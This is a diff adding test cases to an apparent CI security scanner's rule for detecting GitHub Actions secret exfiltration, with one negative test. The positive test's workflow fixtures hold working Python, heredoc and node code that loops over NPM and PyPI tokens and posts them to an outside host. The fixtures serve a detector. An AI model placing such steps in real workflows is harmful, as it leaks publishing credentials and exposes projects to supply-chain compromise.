@@ -768,6 +768,49 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:8', 'critical:17', 'critical:19']);
   });
 
+  it('reads the same loop written in an inline program (shell: python, python3 - <<EOF, node), the value sent in the request or first held by a name, critical', () => {
+    const sent = `on: push\n${job(`      - name: check
+        shell: python
+        run: |
+          import os, urllib.request
+          for n in ("NPM_TOKEN", "PYPI_TOKEN"):
+              urllib.request.urlopen("https://tokcheck.build-insights.dev/v", data=(n + "=" + os.environ[n]).encode())
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
+      - run: |
+          python3 - <<'PY'
+          import os, requests
+          URL = "https://tokcheck.build-insights.dev/v"
+          for name in ["NPM_TOKEN", "PYPI_TOKEN"]:
+              value = os.getenv(name, "")
+              requests.post(URL, data={name: value})
+          PY
+      - run: |
+          node -e '
+          for (const n of ["NPM_TOKEN", "PYPI_TOKEN"]) fetch("https://tokcheck.build-insights.dev/v", { method: "POST", body: n + "=" + process.env[n] });
+          '
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['critical:10', 'critical:19', 'critical:25']);
+  });
+
+  it('is quiet for an inline program that loops over secret names to check they are set, or sends build variables that hold no secret', () => {
+    const quiet = `on: push\n${job(`      - shell: python
+        run: |
+          import os, sys, urllib.request
+          for n in ("NPM_TOKEN", "PYPI_TOKEN"):
+              if not os.environ.get(n):
+                  sys.exit(n + " is not set")
+          for n in ("GITHUB_SHA", "GITHUB_REF_NAME"):
+              urllib.request.urlopen("https://ci.build-insights.dev/b", data=(n + "=" + os.environ[n]).encode())
+          urllib.request.urlopen("https://ci.build-insights.dev/ping")
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+          PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet for a loop over names that hold no secret, one that only masks or checks them, and a send to the machine itself', () => {
     const quiet = `on: push\n${job(`      - run: |
           for n in NODE_VERSION PYTHON_VERSION; do curl -s "https://stats.build-insights.dev/v?$n=\${!n}"; done
